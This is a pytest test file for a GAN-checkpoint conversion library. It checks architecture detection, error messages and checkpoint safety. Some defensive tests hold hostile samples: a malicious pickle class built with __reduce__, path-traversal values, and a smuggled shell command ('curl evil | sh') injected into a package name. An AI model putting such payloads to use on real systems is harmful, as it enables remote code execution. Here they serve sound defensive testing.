import json
from itertools import pairwise

import pytest
import torch
from torch import nn
from torch.nn import functional as F

from ganaug.checkpoints import convert_checkpoint, generator_from_distribution
from ganaug.errors import GeneratorError
from ganaug.generators import DCGAN


def state(network, prefix="main."):
    return {prefix + name: tensor for name, tensor in network.state_dict().items()}


@pytest.mark.parametrize("wrapped", ["bare", "netG_state_dict", "module.", "no counters"])
def test_a_dcgan_checkpoint_draws_the_images_of_its_own_code(tutorial, tmp_path, wrapped):
    content = state(tutorial, "module.main." if wrapped == "module." else "main.")
    if wrapped == "no counters":
        content = {name: tensor for name, tensor in content.items() if "num_batches" not in name}
    if wrapped == "netG_state_dict":
        content = {"netG_state_dict": content, "netD_state_dict": {"x": torch.ones(1)}, "epoch": 7}
    torch.save(content, tmp_path / "weights.tar")
    generator = convert_checkpoint(tmp_path / "weights.tar")
    latents = torch.randn(4, 6)
    torch.testing.assert_close(generator(latents), tutorial(latents[:, :, None, None]), rtol=1e-6, atol=1e-6)
    assert (generator.image_size, generator.latent_dim, generator.channels) == (16, 6, 3)


class Malice:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (str(self.path), "w"))


def test_a_malicious_pickle_is_refused_and_not_run(tmp_path):
    torch.save({"netG_state_dict": Malice(tmp_path / "was_run")}, tmp_path / "evil.pt")
    with pytest.raises(GeneratorError, match=r"evil.pt is refused.*Save a plain state dict instead"):
        convert_checkpoint(tmp_path / "evil.pt")
    assert not (tmp_path / "was_run").exists()


def test_damaged_and_foreign_files_are_named(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    with pytest.raises(GeneratorError, match="there is no file"):
        convert_checkpoint(path)
    torch.save(state(tutorial), path)
    whole = path.read_bytes()
    for content in (whole[: len(whole) // 2], b"", b"hello"):
        path.write_bytes(content)
        with pytest.raises(GeneratorError, match=r"x\.pt"):
            convert_checkpoint(path)
    torch.save({"encoder.layer.weight": torch.ones(4, 2)}, path)
    with pytest.raises(GeneratorError, match=r"does not know: encoder.layer.weight \(4, 2\)\. Known: DCGAN"):
        convert_checkpoint(path)
    torch.save([1, 2], path)
    with pytest.raises(GeneratorError, match="does not know: list"):
        convert_checkpoint(path)
    with pytest.raises(GeneratorError, match=r"is a folder without generator\.pt"):
        convert_checkpoint(tmp_path)


def dcgan_of_the_tutorial(size, channels):
    """The tutorial's layers continued to any size, with batch-norm statistics of its own."""
    torch.manual_seed(0)
    widths = [2 << k for k in reversed(range(size.bit_length() - 3))]
    layers = [nn.ConvTranspose2d(5, widths[0], 4, 1, 0, bias=False)]
    for before, width in pairwise([*widths, channels]):
        layers += [nn.BatchNorm2d(before), nn.ReLU(), nn.ConvTranspose2d(before, width, 4, 2, 1, bias=False)]
    network = nn.Sequential(*layers, nn.Tanh())
    network(torch.randn(16, 5, 1, 1))
    return network.eval().requires_grad_(False)


@pytest.mark.parametrize("channels", [1, 3])
@pytest.mark.parametrize("size", [8, 32, 64, 128])
def test_a_dcgan_of_any_size_is_converted(tmp_path, size, channels):
    network = dcgan_of_the_tutorial(size, channels)
    torch.save(state(network), tmp_path / "g.pth")
    generator = convert_checkpoint(tmp_path / "g.pth")
    z = torch.randn(2, 5)
    assert isinstance(generator, DCGAN) and (generator.image_size, generator.channels) == (size, channels)
    torch.testing.assert_close(generator(z), network(z[:, :, None, None]), rtol=1e-5, atol=1e-6)


def published_sngan(widths, channels, latent_dim=6):
    """Random tensors under the names of GANLatentDiscovery's SN-GAN, and its images of z."""
    torch.manual_seed(0)
    tensors = {}

    def conv(name, before, width, kernel):
        tensors[f"{name}.weight"] = torch.randn(width, before, kernel, kernel) / (before * kernel**2) ** 0.5
        tensors[f"{name}.bias"] = torch.randn(width) / 4

    def norm(name, width):
        for kind, value in (("weight", 1), ("bias", 0), ("running_mean", 0), ("running_var", 1)):
            tensors[f"{name}.{kind}"] = value + torch.rand(width) / 2
        tensors[f"{name}.num_batches_tracked"] = torch.tensor(100)

    tensors["model.0.weight"] = torch.randn(16 * widths[0], latent_dim) / latent_dim**0.5
    tensors["model.0.bias"] = torch.randn(16 * widths[0]) / 4
    for k, (before, width) in enumerate(pairwise(widths), start=2):
        for number, twin, inputs in ((1, 3, before), (2, 6, width)):
            conv(f"model.{k}.conv{number}", inputs, width, 3)
            for kind in ("weight", "bias"):
                tensors[f"model.{k}.model.{twin}.{kind}"] = tensors[f"model.{k}.conv{number}.{kind}"]
        norm(f"model.{k}.model.0", before)
        norm(f"model.{k}.model.4", width)
        if before != width:
            conv(f"model.{k}.bypass.1", before, width, 3)
    norm(f"model.{len(widths) + 1}", widths[-1])
    conv(f"model.{len(widths) + 3}", widths[-1], channels, 3)

    def draw(z):
        def convolved(name, x):
            return F.conv2d(x, tensors[f"{name}.weight"], tensors[f"{name}.bias"], padding=1)

        def normed(name, x):
            kinds = ("running_mean", "running_var", "weight", "bias")
            return F.relu(F.batch_norm(x, *(tensors[f"{name}.{kind}"] for kind in kinds)))

        x = F.linear(z, tensors["model.0.weight"], tensors["model.0.bias"]).reshape(len(z), widths[0], 4, 4)
        for k, (before, width) in enumerate(pairwise(widths), start=2):
            h = convolved(f"model.{k}.conv1", F.interpolate(normed(f"model.{k}.model.0", x), scale_factor=2))
            h = convolved(f"model.{k}.conv2", normed(f"model.{k}.model.4", h))
            x = F.interpolate(x, scale_factor=2)
            x = h + (x if before == width else convolved(f"model.{k}.bypass.1", x))
        return convolved(f"model.{len(widths) + 3}", normed(f"model.{len(widths) + 1}", x)).tanh()

    return tensors, draw


@pytest.fixture
def sngan_folder(tmp_path):
    """Writes an SN-GAN as GANLatentDiscovery keeps it; returns the folder and what draws its images."""

    def write(widths, channels, **options):
        tensors, draw = published_sngan(widths, channels)
        folder = tmp_path / "SN_Anime"
        folder.mkdir()
        torch.save(tensors, folder / "generator.pt")
        size = 2 << len(widths)
        said = {"model": f"sn_resnet{size}", "latent_dim": 6, "image_channels": channels, **options}
        (folder / "args.json").write_text(json.dumps(said))
        return folder, draw

    return write


@pytest.mark.parametrize("channels", [1, 3])
@pytest.mark.parametrize("widths", [(8, 8, 8, 8), (12, 8, 8, 4, 4), (8, 8, 6, 4, 4, 2)], ids=["32", "64", "128"])
def test_the_papers_own_sngan_is_converted_from_its_folder_or_file(sngan_folder, widths, channels):
    folder, draw = sngan_folder(widths, channels)
    z = torch.randn(3, 6)
    for path in (folder, folder / "generator.pt"):
        generator = convert_checkpoint(path)
        assert (generator.image_size, generator.channels, generator.latent_dim) == (2 << len(widths), channels, 6)
        for network in (generator, generator.fused()):
            torch.testing.assert_close(network(z), draw(z), rtol=1e-5, atol=1e-5)


def test_an_sngan_beside_another_ones_arguments_is_refused(sngan_folder):
    folder, _ = sngan_folder((8, 8, 8, 8), 1, latent_dim=128, model="sn_resnet64")
    with pytest.raises(GeneratorError, match="model 'sn_resnet64', not 'sn_resnet32'; latent_dim 128, not 6"):
        convert_checkpoint(folder)


def stylegan2_names():
    """A few of the tensors of rosinality's StyleGAN2."""
    shapes = {"input.input": (1, 4, 4, 4), "style.1.weight": (4, 4), "style.1.bias": (4,)}
    shapes |= {
        "conv1.conv.modulation.weight": (4, 4),
        "conv1.conv.weight": (1, 4, 4, 3, 3),
        "conv1.activate.bias": (4,),
    }
    return {name: torch.randn(shape) for name, shape in shapes.items()}


def tutorial_discriminator():
    layers = [nn.Conv2d(3, 4, 4, 2, 1, bias=False), nn.LeakyReLU(0.2), nn.Conv2d(4, 8, 4, 2, 1, bias=False)]
    return state(nn.Sequential(*layers, nn.BatchNorm2d(8), nn.LeakyReLU(0.2), nn.Conv2d(8, 1, 4, 1, 0, bias=False)))


FOREIGN = {
    "discriminator": (tutorial_discriminator, "Nearest: DCGAN .*, but it would also have main.1.running_mean"),
    "other prefix": (
        lambda: state(dcgan_of_the_tutorial(16, 3), "layers."),
        r"Nearest: DCGAN .*, but these begin with 'layers\.' where it has 'main\.'\.",
    ),
    "one prefix more": (
        lambda: {f"own.{name}": tensor for name, tensor in stylegan2_names().items()},
        r"Nearest: StyleGAN2 \(rosinality.*, but these begin with 'own\.'\.",
    ),
    "tensor missing": (
        lambda: {name: tensor for name, tensor in stylegan2_names().items() if name != "style.1.weight"},
        "Nearest: StyleGAN2 .*, but it would also have style.1.weight",
    ),
    "tensor too many": (
        lambda: {"0.weight": torch.ones(4, 2), "2.weight": torch.ones(16, 4), "label_emb.weight": torch.ones(2, 2)},
        "Nearest: MLP .*, but these do not belong: label_emb.weight",
    ),
    "directions": (
        lambda: {"linear.weight": torch.eye(3), "linear.bias": torch.zeros(3)},
        "holds directions, not a generator. .* --generator FOLDER",
    ),
}


@pytest.mark.parametrize("case", FOREIGN)
def test_an_unknown_layout_is_told_from_the_nearest_known_one(tmp_path, case):
    tensors, message = FOREIGN[case]
    torch.save(tensors(), tmp_path / "x.pt")
    with pytest.raises(GeneratorError, match=message):
        convert_checkpoint(tmp_path / "x.pt")


def test_a_layout_that_is_told_is_required(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    torch.save(state(tutorial), path)
    assert isinstance(convert_checkpoint(path, arch="dcgan"), DCGAN)
    for arch in ("sngan", "progan", "biggan", "biggan-deep", "stylegan2", "mlp"):
        with pytest.raises(GeneratorError, match=r"x\.pt.*(missing|found main\.0\.weight|linear layers)"):
            convert_checkpoint(path, arch=arch)
    with pytest.raises(GeneratorError, match=r"arch should be auto or one of dcgan, sngan, .*; got 'gan9000'"):
        convert_checkpoint(path, arch="gan9000")
    torch.save(state(tutorial, "layers."), path)
    with pytest.raises(GeneratorError, match=r"DCGAN .*missing main\.0\.weight.*and 11 more"):
        convert_checkpoint(path, arch="dcgan")


def test_options_are_those_of_the_architecture(tutorial, tmp_path):
    path = tmp_path / "x.pt"
    torch.save(state(tutorial), path)
    with pytest.raises(GeneratorError, match="dcgan has no option truncation for conversion; it has none"):
        convert_checkpoint(path, truncation=0.5)


def test_a_generator_comes_out_of_an_installed_distribution(distribution, tutorial):
    latents = torch.randn(2, 6)
    generator = generator_from_distribution(**distribution)
    torch.testing.assert_close(generator(latents), tutorial(latents[:, :, None, None]), rtol=1e-6, atol=1e-6)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"distribution": "no-such-faces"}, "distribution no-such-faces, which is missing"),
        ({"path": "toy_faces/other.tar"}, "toy-faces 2.0 has no toy_faces/other.tar"),
        ({"file_sha256": "0" * 64}, "expected 0000000"),
    ],
)
def test_what_is_missing_is_named_with_the_way_to_get_it(distribution, change, message):
    wanted = {**distribution, **change}
    with pytest.raises(GeneratorError) as caught:
        generator_from_distribution(**wanted)
    assert message in str(caught.value)
    assert f'pip install --no-deps "{wanted["distribution"]}==2.0"' in str(caught.value)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"path": "../secret.tar"}, "should lie inside it, got '../secret.tar'"),
        ({"path": "/secret.tar"}, "should lie inside it, got '/secret.tar'"),
        ({"distribution": 'x"; curl evil | sh; "'}, "is not the name and version of a Python distribution"),
        ({"version": "2.0; true"}, "is not the name and version of a Python distribution"),
    ],
)
def test_a_source_that_reaches_out_is_refused_and_no_command_is_made_of_it(distribution, change, message):
    with pytest.raises(GeneratorError) as caught:
        generator_from_distribution(**{**distribution, **change})
    assert message in str(caught.value) and "pip install" not in str(caught.value)


def test_averaged_weights_are_taken_before_those_that_were_averaged(tutorial, tmp_path):
    averaged = state(tutorial)
    raw = {name: tensor + 1 if tensor.is_floating_point() else tensor for name, tensor in averaged.items()}
    torch.save({"generator": raw, "g_ema": averaged}, tmp_path / "x.pt")
    z = torch.randn(2, 6)
    torch.testing.assert_close(convert_checkpoint(tmp_path / "x.pt")(z), tutorial(z[:, :, None, None]))


@pytest.mark.parametrize("how", ["compiled", "beside a discriminator", "half", "called pkl"])
def test_checkpoints_as_trainings_leave_them_convert(tutorial, tmp_path, how):
    tensors, path = state(tutorial), tmp_path / "x.pt"
    if how == "compiled":
        tensors = {f"module._orig_mod.{name}": tensor for name, tensor in tensors.items()}
    elif how == "beside a discriminator":
        tensors = {f"generator.{name}": tensor for name, tensor in tensors.items()} | {
            "discriminator.main.0.weight": torch.zeros(4, 3, 4, 4)
        }
    elif how == "half":
        tensors = {name: tensor.half() if tensor.is_floating_point() else tensor for name, tensor in tensors.items()}
    else:
        path = tmp_path / "x.pkl"
    torch.save(tensors, path)
    z = torch.randn(2, 6)
    tolerance = 2e-2 if how == "half" else 1e-5
    images = tutorial(z[:, :, None, None])
    torch.testing.assert_close(convert_checkpoint(path)(z), images, atol=tolerance, rtol=tolerance)


def test_a_tensor_that_claims_more_than_is_stored_is_refused(tutorial, tmp_path):
    tensors = state(tutorial)
    tensors["main.0.weight"] = torch.zeros(1).expand(6, 10**6, 4, 4)
    torch.save(tensors, tmp_path / "x.pt")
    with pytest.raises(GeneratorError, match=r"shape \(6, 1000000, 4, 4\) has more elements than are stored"):
        convert_checkpoint(tmp_path / "x.pt")
